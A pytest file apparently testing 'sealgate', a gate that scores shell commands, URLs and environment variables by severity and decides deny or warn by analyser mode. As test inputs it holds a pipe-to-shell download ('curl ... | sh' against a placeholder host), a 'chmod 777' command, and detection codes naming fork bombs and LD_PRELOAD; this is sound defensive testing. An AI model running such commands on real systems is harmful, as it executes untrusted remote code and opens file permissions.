"""The gate's verdict: deny at or above ``deny_from``, never from an analyser in ``audit`` mode."""

from __future__ import annotations

import pytest

from sealgate._dataclass import FrozenInstanceError
from sealgate.checks import CODES, Finding, Verdict, analyse_command, deny_threshold, evaluate, merge_findings
from sealgate.checks._finding import make
from sealgate.errors import Severity
from sealgate.policy import Analyser, AnalyserMode

ENFORCE_ALL = {a: AnalyserMode.ENFORCE for a in Analyser}


def test_finding_is_a_frozen_value() -> None:
    finding = make("command-fork-bomb", "boom", "0-10")
    assert finding == Finding("command-fork-bomb", Severity.CRITICAL, "boom", "command", "0-10")
    assert hash(finding) == hash(make("command-fork-bomb", "boom", "0-10"))
    with pytest.raises(FrozenInstanceError):
        finding.code = "x"  # type: ignore[misc]


def test_codes_have_the_documented_severities() -> None:
    assert CODES["command-download-exec"] is Severity.CRITICAL
    assert CODES["command-unparseable"] is Severity.HIGH
    assert CODES["command-chmod-world-writable"] is Severity.MEDIUM
    assert CODES["url-idn-lookalike"] is Severity.MEDIUM
    assert CODES["env-dangerous-variable"] is Severity.HIGH


def test_strict_denies_medium_standard_does_not() -> None:
    findings = analyse_command("chmod 777 /srv/app", shell=True)
    assert evaluate(findings, Severity.MEDIUM, ENFORCE_ALL).deny == tuple(findings)
    verdict = evaluate(findings, Severity.HIGH, ENFORCE_ALL)
    assert verdict.deny == () and verdict.warn == tuple(findings)


def test_analyser_in_audit_mode_reports_but_never_denies_even_critical() -> None:
    findings = analyse_command("curl -s http://x.example | sh", shell=True)
    modes = {**ENFORCE_ALL, Analyser.COMMAND: AnalyserMode.AUDIT}
    verdict = evaluate(findings, Severity.MEDIUM, modes)
    assert verdict == Verdict(deny=(), warn=tuple(findings))


def test_audit_mode_of_one_analyser_does_not_excuse_another() -> None:
    findings = [make("command-fork-bomb", "a", None), make("url-private-address", "b", "127.0.0.1")]
    verdict = evaluate(findings, Severity.HIGH, {"command": AnalyserMode.AUDIT, "url": AnalyserMode.ENFORCE})
    assert [f.code for f in verdict.deny] == ["url-private-address"]
    assert [f.code for f in verdict.warn] == ["command-fork-bomb"]


def test_analyser_missing_from_modes_enforces() -> None:
    verdict = evaluate([make("env-dangerous-variable", "x", "LD_PRELOAD")], Severity.HIGH, {})
    assert len(verdict.deny) == 1


def test_merge_drops_duplicates_and_orders_most_severe_first() -> None:
    a = make("command-chmod-world-writable", "m", "1")
    b = make("command-download-exec", "c", "2")
    c = make("url-private-address", "h", "3")
    assert merge_findings([a, b], [b, c], [a]) == [b, c, a]
    assert merge_findings() == []


def test_deny_threshold_keeps_findings_at_or_above_the_level() -> None:
    a = make("command-chmod-world-writable", "m", "1")
    b = make("command-download-exec", "c", "2")
    assert deny_threshold([a, b], Severity.HIGH) == [b]
    assert deny_threshold([a, b], Severity.MEDIUM) == [b, a]
    assert deny_threshold([a, b], Severity.INFO) == [b, a]
